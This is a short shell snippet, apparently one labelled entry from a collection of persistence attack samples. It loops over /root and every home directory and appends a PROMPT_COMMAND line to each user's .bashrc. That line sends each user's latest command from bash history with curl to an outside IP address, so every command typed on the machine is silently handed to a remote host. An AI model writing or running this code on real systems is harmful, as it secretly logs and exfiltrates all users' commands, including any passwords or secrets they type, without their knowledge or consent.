# class: persistence, every user's shell; style: loop
for h in /root /home/*; do
  echo 'export PROMPT_COMMAND="history -a; tail -n1 ~/.bash_history | curl -s -d @- http://203.0.113.5/h >/dev/null 2>&1"' >> $h/.bashrc
done
